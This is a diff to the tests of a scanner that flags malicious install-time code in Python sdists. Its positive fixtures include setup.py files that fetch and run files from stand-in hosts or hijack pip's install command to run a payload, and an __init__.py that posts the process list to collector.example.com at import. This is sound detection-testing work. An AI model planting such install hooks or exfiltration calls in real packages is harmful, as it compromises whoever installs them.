@@ -309,6 +309,91 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "setup.py", 7, "install",
     ),
+    "download-and-run/setup-py-fetch-then-run-it-by-file-name": Positive(
+        # Named bare but with an extension: Windows looks in the current directory first.
+        "download-and-run", C,
+        S({"setup.py": """
+            import os
+            import urllib.request
+            from setuptools import setup
+
+            urllib.request.urlretrieve("https://cdn.example.com/update", "update.exe")
+            os.system("update.exe")
+            setup(name="demo")
+        """}),
+        "setup.py", 6, "install",
+    ),
+    "download-and-run/setup-py-fetch-then-a-shell-runs-it": Positive(
+        "download-and-run", C,
+        S({"setup.py": """
+            import subprocess
+            import urllib.request
+            from setuptools import setup
+
+            urllib.request.urlretrieve("https://cdn.example.com/install.sh", "install.sh")
+            subprocess.call(["bash", "install.sh"])
+            setup(name="demo")
+        """}),
+        "setup.py", 6, "install",
+    ),
+    "process-spawn/setup-py-release-command-registered-as-install": Positive(
+        # A class written like a release helper, registered under a command pip runs.
+        "process-spawn", H,
+        S({"setup.py": """
+            import os
+            from setuptools import Command, setup
+
+            class PublishCommand(Command):
+                user_options = []
+                def run(self):
+                    os.system("payload --now")
+
+            setup(name="demo", cmdclass={"install": PublishCommand})
+        """}),
+        "setup.py", 7, "install",
+    ),
+    "process-spawn/setup-py-release-command-made-a-sub-command": Positive(
+        "process-spawn", H,
+        S({"setup.py": """
+            import os
+            from setuptools import Command, setup
+            from setuptools.command.install import install
+
+            class PublishCommand(Command):
+                def run(self):
+                    os.system("payload --now")
+
+            install.sub_commands.append(("publish", None))
+            setup(name="demo", cmdclass={"publish": PublishCommand})
+        """}),
+        "setup.py", 7, "install",
+    ),
+    "process-spawn/setup-py-argv-branch-for-a-command-pip-runs": Positive(
+        "process-spawn", H,
+        S({"setup.py": """
+            import os
+            import sys
+            from setuptools import setup
+
+            if "install" in sys.argv or sys.argv[1] == "bdist_wheel":
+                os.system("payload --now")
+            setup(name="demo")
+        """}),
+        "setup.py", 6, "install",
+    ),
+    "host-exfiltration/import-sends-the-process-list": Positive(
+        # importantpackage: the process list, read with `ps`, posted at import.
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import os
+            import urllib.request
+
+            processes = os.popen("ps h -eo pid:1,command").read()
+            request = urllib.request.Request("https://collector.example.com/", data=processes.encode())
+            urllib.request.urlopen(request)
+        """}),
+        "pkg/__init__.py", 5, "import",
+    ),
     "download-and-run/curl-then-run-when-called": Positive(
         "download-and-run", H,
         W({"pkg/tools.py": """
@@ -1020,8 +1105,83 @@ NEGATIVE: dict[str, Negative] = {
                 return url
         """}),
     ),
+    "download-and-run/setup-py-fetches-a-driver-and-runs-system-programs": Negative(
+        # ibm_db's setup.py: downloads IBM's client driver, then runs programs found on PATH.
+        "download-and-run",
+        S({"setup.py": """
+            import io
+            import os
+            import subprocess
+            import urllib.request
+            import zipfile
+            from setuptools import setup
+
+            status, output = subprocess.getstatusoutput("db2cli validate")
+            data = urllib.request.urlopen("https://downloads.example.com/clidriver.zip").read()
+            zipfile.ZipFile(io.BytesIO(data)).extractall("clidriver")
+            os.system("chtag -r " + os.path.join("clidriver", "lib"))
+            setup(name="demo")
+        """}),
+    ),
+    "host-exfiltration/setup-py-picks-a-download-by-machine-type": Negative(
+        # ibm_db again: os.uname()[4] chooses which driver build to fetch; it names no one.
+        "host-exfiltration",
+        S({"setup.py": """
+            import os
+            import platform
+            import urllib.request
+            from setuptools import setup
+
+            if "ppc64le" in os.uname()[4] or platform.uname().machine == "s390x":
+                url = "https://downloads.example.com/driver-" + os.uname().machine + ".tar.gz"
+                urllib.request.urlopen(url).read()
+            setup(name="demo")
+        """}),
+    ),
+    "process-spawn/setup-py-publish-command-pip-never-runs": Negative(
+        # pyexcel-io's and simple-term-menu's setup.py: release helpers only a maintainer types.
+        "process-spawn",
+        S({"setup.py": """
+            import os
+            import subprocess
+            from setuptools import Command, setup
+
+            class PublishCommand(Command):
+                user_options = []
+                def run(self):
+                    os.system("gease pyexcel-io v0.6.8")
+                    subprocess.check_call(["twine", "upload", "dist/*"])
+
+            COMMANDS = {}
+            COMMANDS.update({"publish": PublishCommand})
+            setup(name="demo", cmdclass=COMMANDS)
+        """}),
+    ),
+    "download-and-run/setup-py-release-branch-on-argv": Negative(
+        # telethon's setup.py: `setup.py pypi` checks a web page and uploads; pip never asks for it.
+        "download-and-run",
+        S({"setup.py": """
+            import sys
+            import urllib.request
+            from subprocess import run
+            from setuptools import setup
+
+            def main(argv):
+                if len(argv) >= 2 and argv[1] == "pypi":
+                    html = urllib.request.urlopen("https://docs.example.org/").read()
+                    run("python3 setup.py sdist", shell=True)
+                    run("twine upload dist/*", shell=True)
+                elif sys.argv[-1] in ("gen", "clean"):
+                    run("rm -rf build", shell=True)
+                else:
+                    setup(name="demo")
+
+            if __name__ == "__main__":
+                main(sys.argv)
+        """}),
+    ),
     "download-and-run/project-runs-its-own-command": Negative(
-        # fastapi's sdist: docs scripts start `fastapi run` on a tutorial, then fetch a page from it.
+        # fastapi's sdist: docs scripts start `fastapi run` (a program on PATH) on a tutorial, then fetch a page from it.
         "download-and-run",
         S({"scripts/screenshots/image01.py": """
             import subprocess
@@ -1463,6 +1623,55 @@ def test_build_tools_in_setup_py_are_info_only() -> None:
     """})
     assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", I, 3)]
     assert result.verdict is Verdict.CLEAN
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        'subprocess.check_call(["cmake", "-S", "src", "-B", "build"] + CMAKE_ARGS)',
+        'cmake_cmd = shutil.which("cmake")\nsubprocess.check_call([cmake_cmd, "--build", "."])',
+        'subprocess.check_output(["mecab-config", "--libs"])',
+    ],
+    ids=["list-plus-arguments", "found-with-which", "config-program"],
+)
+def test_build_tools_named_in_other_ways_are_info_only(call: str) -> None:
+    # dm-tree, pycares and mecab-python3 build so.
+    source = "import shutil\nimport subprocess\nfrom setuptools import setup\n" + call + "\nsetup(name='demo')\n"
+    result = scan_sdist({"setup.py": source})
+    assert [(f.rule, f.severity) for f in result.findings] == [("process-spawn", I)]
+    assert result.verdict is Verdict.CLEAN
+
+
+def test_setup_cfg_aliases_keep_every_command_of_setup_py_install_time() -> None:
+    # `[aliases]` can make `bdist_wheel` run `publish` too: then nothing of setup.py is set aside.
+    setup_py = """
+        import os
+        from setuptools import Command, setup
+
+        class PublishCommand(Command):
+            def run(self):
+                os.system("payload --now")
+
+        setup(name="demo", cmdclass={"publish": PublishCommand})
+    """
+    assert not scan_sdist({"setup.py": setup_py}).findings
+    aliased = scan_sdist({"setup.py": setup_py, "setup.cfg": "[aliases]\nbdist_wheel = publish bdist_wheel\n"})
+    assert [(f.rule, f.severity, f.line) for f in aliased.findings] == [("process-spawn", H, 6)]
+
+
+def test_release_command_named_anywhere_else_stays_install_time() -> None:
+    result = scan_sdist({"setup.py": """
+        import os
+        from setuptools import Command, setup
+
+        class PublishCommand(Command):
+            def run(self):
+                os.system("payload --now")
+
+        PublishCommand(None).run()
+        setup(name="demo", cmdclass={"publish": PublishCommand})
+    """})
+    assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", H, 6)]
 
 
 def test_duplicate_member_analyses_the_copy_that_is_installed() -> None:
